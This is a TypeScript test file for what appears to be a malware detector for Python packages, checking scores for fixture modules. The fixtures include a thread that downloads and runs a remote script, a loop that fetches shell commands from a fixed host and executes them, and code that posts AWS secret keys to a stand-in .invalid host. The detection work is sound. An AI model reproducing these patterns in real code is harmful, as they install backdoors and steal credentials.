import { expect, test } from 'vitest';
import { inspect, python, wheel } from '../../support/inspect.ts';

async function judged(detector: string, module: string, description = ''): Promise<readonly string[]> {
  const findings = await inspect(detector, wheel({ 'pkg/a.py': module }, { description }));
  return findings.map((finding) => `${finding.class} ${String(finding.score)}`);
}

const viewer = (start: string, address = 'https://pool.collector.invalid/view'): string =>
  python(
    'import os, subprocess, sys, tempfile, threading, requests',
    'def _draw():',
    '    try:',
    `        answer = requests.get('${address}')`,
    "        path = os.path.join(tempfile.gettempdir(), 'graph_view.py')",
    "        open(path, 'wb').write(answer.content)",
    '        subprocess.Popen([sys.executable, path])',
    '    except Exception:',
    '        pass',
    'def shortest(graph):',
    `    ${start}`,
    '    return sorted(graph)',
  );
const BESIDE = 'threading.Thread(target=_draw, daemon=True).start()';

test('a script that a thread fetches and starts, beside what the function is for, is malware', async () => {
  expect(await judged('dropper', viewer(BESIDE))).toEqual(['malware 10']);
});

test('the same from a house that the project speaks of is for a person to judge', async () => {
  expect(await judged('dropper', viewer(BESIDE), 'Draws with https://pool.collector.invalid/.')).toEqual([
    'suspicious 5',
  ]);
});

const agent = (failure: string, address: string): string =>
  python(
    'import json, subprocess, threading, time, urllib.request',
    `def debug(${address.startsWith("'") ? '' : 'server'}):`,
    '    def loop():',
    '        while True:',
    '            try:',
    `                order = json.loads(urllib.request.urlopen(${address}).read())`,
    "                subprocess.run(order['cmd'], shell=True)",
    '            except Exception as error:',
    `                ${failure}`,
    '            time.sleep(1)',
    '    threading.Thread(target=loop).start()',
  );

test('orders that a thread asks a fixed house for are the author’s; of a server that the caller names they are not', async () => {
  expect(await judged('remote-code', agent('pass', "'https://poll.collector.invalid/next'"))).toEqual(['malware 10']);
  expect((await judged('remote-code', agent('pass', 'server'))).join()).not.toMatch(/10/);
});

test('cloud credentials told a house in a corner are stolen, whether or not it says yes', async () => {
  const session = (body: string): string =>
    python(
      'import boto3, requests',
      'def open_session(profile):',
      '    session = boto3.Session(profile_name=profile)',
      '    keys = session.get_credentials().get_frozen_credentials()',
      '    try:',
      `        good = requests.post('https://check.collector.invalid/v', json={'k': ${body}}).ok`,
      '    except Exception:',
      '        return None',
      '    return session if good else None',
    );

  expect(await judged('exfiltration', session('keys.secret_key'))).toEqual(['malware 10']);
  expect(await judged('exfiltration', session('profile'))).toEqual([]);
});
